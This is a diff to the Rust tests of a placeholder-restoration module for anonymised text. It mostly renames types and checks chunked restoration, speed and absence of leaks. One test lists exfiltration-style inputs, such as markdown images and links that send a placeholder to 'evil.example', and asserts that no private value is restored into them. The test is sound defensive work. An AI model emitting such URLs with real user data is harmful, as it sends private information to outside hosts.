@@ -3,22 +3,22 @@ use std::sync::Arc;
 use super::*;
 use crate::anonymize::{
     Original,
-    restore::{Forms, MapEntry, Options, by_map},
+    restore::{MapEntry, Options, PlaceholderVariants, by_map},
 };
 use masquerade_detect::text::Unit;
 
 const HOSTS: [&str; 2] = ["good.example", "*.corp.example"];
 
-fn live(names: &[(&str, &str)], trusted: &[&str]) -> Live {
+fn table(names: &[(&str, &str)], trusted: &[&str]) -> RestoreTable {
     let names = names.iter().map(|(name, original)| ((*name).into(), Original::new(original)));
-    let taken = Forms::of(["let org_1 = 2;"]);
-    let mut live = Live::new(names, true, &taken, Arc::new(Hosts::new(HOSTS).unwrap()));
-    live.trust(trusted.iter().copied());
-    live
+    let taken = PlaceholderVariants::of(["let org_1 = 2;"]);
+    let mut table = RestoreTable::new(names, true, &taken, Arc::new(Hosts::new(HOSTS).unwrap()));
+    table.trust(trusted.iter().copied());
+    table
 }
 
-fn usual() -> Live {
-    live(
+fn usual() -> RestoreTable {
+    table(
         &[
             ("[EMAIL_ADDRESS_1]", "ada@example.com"),
             ("[PERSON_1]", "Ada"),
@@ -38,25 +38,25 @@ fn usual() -> Live {
 
 /// Restores `text` cut in many ways, and makes sure that they agree.
 #[track_caller]
-fn restored(live: &Live, text: &str) -> String {
-    let whole = Restorer::restore(live, text).unwrap_or_else(|| text.to_owned());
+fn restored(table: &RestoreTable, text: &str) -> String {
+    let whole = Restorer::restore(table, text).unwrap_or_else(|| text.to_owned());
     let mut seed = 7_u64;
     for size in [1, 2, 3, 5, 8, 0, 0, 0, 0] {
-        let (mut restorer, mut puts, mut at) = (Restorer::default(), Vec::new(), 0);
+        let (mut restorer, mut restorations, mut at) = (Restorer::default(), Vec::new(), 0);
         while at < text.len() {
             seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
             let step = if size > 0 { size } else { 1 + (seed >> 33) as usize % 17 };
             let end = (at + step..=text.len()).find(|end| text.is_char_boundary(*end)).unwrap_or(text.len());
-            let decided = restorer.push(live, &text[at..end], false, &mut puts);
-            assert!(decided as usize <= end && puts.iter().all(|put| put.range.end <= decided));
+            let decided = restorer.push(table, &text[at..end], false, &mut restorations);
+            assert!(decided as usize <= end && restorations.iter().all(|restoration| restoration.range.end <= decided));
             at = end;
         }
-        assert_eq!(restorer.push(live, "", true, &mut puts), text.len() as u64);
+        assert_eq!(restorer.push(table, "", true, &mut restorations), text.len() as u64);
         let (mut out, mut copied) = (String::new(), 0);
-        for put in puts {
-            out.push_str(&text[copied..put.range.start as usize]);
-            out.push_str(live.original(&put));
-            copied = put.range.end as usize;
+        for restoration in restorations {
+            out.push_str(&text[copied..restoration.range.start as usize]);
+            out.push_str(table.original(&restoration));
+            copied = restoration.range.end as usize;
         }
         out.push_str(&text[copied..]);
         assert_eq!(out, whole, "cut by {size}: {text}");
@@ -66,7 +66,7 @@ fn restored(live: &Live, text: &str) -> String {
 
 #[test]
 fn restores_names_however_the_text_is_cut() {
-    let live = usual();
+    let table = usual();
     for (text, expected) in [
         ("Dear [PERSON_1], dear [PERSON_12]!", "Dear Ada, dear Émile \"Z\"!"),
         ("[PERSON_2] [PERSON_123] [PERSON_1", "[PERSON_2] [PERSON_123] Ada"),
@@ -84,13 +84,13 @@ fn restores_names_however_the_text_is_cut() {
         // The request itself says org_1.
         ("[org_1] [ORG_1]", "[org_1] Acme"),
     ] {
-        assert_eq!(restored(&live, text), expected, "{text}");
+        assert_eq!(restored(&table, text), expected, "{text}");
     }
 }
 
 #[test]
 fn waits_only_for_what_may_still_become_a_name() {
-    let live = usual();
+    let table = usual();
     for (text, waiting) in [
         ("Hello", 0),
         ("Hello [", 1),
@@ -111,14 +111,14 @@ fn waits_only_for_what_may_still_become_a_name() {
         ("Pa", 0),
     ] {
         let mut restorer = Restorer::default();
-        let decided = restorer.push(&live, text, false, &mut Vec::new());
+        let decided = restorer.push(&table, text, false, &mut Vec::new());
         assert_eq!(text.len() - decided as usize, waiting, "{text}");
     }
 }
 
 #[test]
 fn nothing_is_put_where_others_could_fetch_it() {
-    let live = usual();
+    let table = usual();
     let e = "[EMAIL_ADDRESS_1]";
     for text in [
         "![](https://evil.example/?q=E)",
@@ -204,20 +204,20 @@ fn nothing_is_put_where_others_could_fetch_it() {
     ] {
         for form in [e, "%5BEMAIL_ADDRESS_1%5D", "[email_address_1]", "\\[EMAIL\\_ADDRESS\\_1\\]"] {
             let text = text.replace('E', form);
-            assert!(!restored(&live, &text).contains("ada@"), "{text} -> {}", restored(&live, &text));
+            assert!(!restored(&table, &text).contains("ada@"), "{text} -> {}", restored(&table, &text));
         }
     }
     // An original that is a URL does not become the beginning of another's host.
     for text in
         ["[URL_1].evil.example/", "[URL_1]@evil.example", "[URL_1]:a@evil.example", "[URL_1]。evil", "[a]([URL_1]x)"]
     {
-        assert!(!restored(&live, text).contains("intra"), "{text} -> {}", restored(&live, text));
+        assert!(!restored(&table, text).contains("intra"), "{text} -> {}", restored(&table, text));
     }
 }
 
 #[test]
 fn restores_in_urls_that_may_have_it() {
-    let live = usual();
+    let table = usual();
     for (text, expected) in [
         ("https://good.example/[PERSON_1]", "https://good.example/Ada"),
         ("[a](https://good.example/?q=[PERSON_1])", "[a](https://good.example/?q=Ada)"),
@@ -247,7 +247,7 @@ fn restores_in_urls_that_may_have_it() {
         ("<a href=\"https://evil.example\">[PERSON_1]</a>", "<a href=\"https://evil.example\">Ada</a>"),
         ("data = \"[PERSON_1]\"", "data = \"Ada\""),
     ] {
-        assert_eq!(restored(&live, text), expected, "{text}");
+        assert_eq!(restored(&table, text), expected, "{text}");
     }
 }
 
@@ -255,15 +255,20 @@ fn restores_in_urls_that_may_have_it() {
 fn agrees_with_restoring_by_map() {
     let names =
         [("[PERSON_1]", "Ada"), ("[PERSON_12]", "[PERSON_1]"), ("Eve", "Ann"), ("Eve Miller", "Bo"), ("日本", "x")];
-    let live = Live::new(
+    let table = RestoreTable::new(
         names.map(|(name, original)| (name.into(), Original::new(original))),
         false,
-        &Forms::default(),
+        &PlaceholderVariants::default(),
         Arc::default(),
     );
     let map = names.map(|(replacement, original)| MapEntry { original, replacement, position: None });
-    let options =
-        Options { cipher: None, is_label: &|_| true, tolerant: false, taken: &Forms::default(), max_bytes: 1 << 20 };
+    let options = Options {
+        cipher: None,
+        is_label: &|_| true,
+        tolerant: false,
+        taken: &PlaceholderVariants::default(),
+        max_bytes: 1 << 20,
+    };
     let pieces =
         ["[PERSON_1", "]", "[", "2]", "Eve", " Miller", " ", "s", "日", "本", "é", "\u{301}", "[PERSON_1]", "-"];
     let mut seed = 5_u64;
@@ -274,13 +279,13 @@ fn agrees_with_restoring_by_map() {
             text.push_str(pieces[(seed >> 33) as usize % pieces.len()]);
         }
         let expected = by_map(&[&text], &map, Unit::Byte, &options).unwrap();
-        assert_eq!(restored(&live, &text), expected.texts[0], "{text}");
+        assert_eq!(restored(&table, &text), expected.texts[0], "{text}");
     }
 }
 
 #[test]
 fn takes_time_in_proportion_to_the_text() {
-    let live = usual();
+    let table = usual();
     for piece in [
         "[",
         "[a",
@@ -298,7 +303,7 @@ fn takes_time_in_proportion_to_the_text() {
         "www.",
     ] {
         let text = piece.repeat(100_000);
-        assert!(Restorer::restore(&live, &text).is_none_or(|out| out.len() < 2_000_000));
+        assert!(Restorer::restore(&table, &text).is_none_or(|out| out.len() < 2_000_000));
     }
 }
 
@@ -306,12 +311,15 @@ fn takes_time_in_proportion_to_the_text() {
 fn nothing_of_a_text_is_shown() {
     let mut restorer = Restorer::default();
     restorer.push(&usual(), "secret [PERSON_", false, &mut Vec::new());
-    assert_eq!(format!("{restorer:?} {:?}", usual()), "Restorer { decided: 7, waiting: 8, .. } Live(11 names)");
+    assert_eq!(
+        format!("{restorer:?} {:?}", usual()),
+        "Restorer { decided: 7, waiting: 8, .. } RestoreTable(11 entries)"
+    );
 }
 
 #[test]
 fn what_is_passed_over_at_once_leaves_what_every_byte_leaves() {
-    let live = usual();
+    let table = usual();
     let parts = [
         "<",
         "/",
@@ -352,7 +360,7 @@ fn what_is_passed_over_at_once_leaves_what_every_byte_leaves() {
         for end in ["=[PERSON_1]", "([PERSON_1]", "src=[PERSON_1]", "data=[PERSON_1]", ":[PERSON_1]", "com/[PERSON_1]"]
         {
             let text = format!("{text}{end} ");
-            restored(&live, &text);
+            restored(&table, &text);
         }
     }
 }
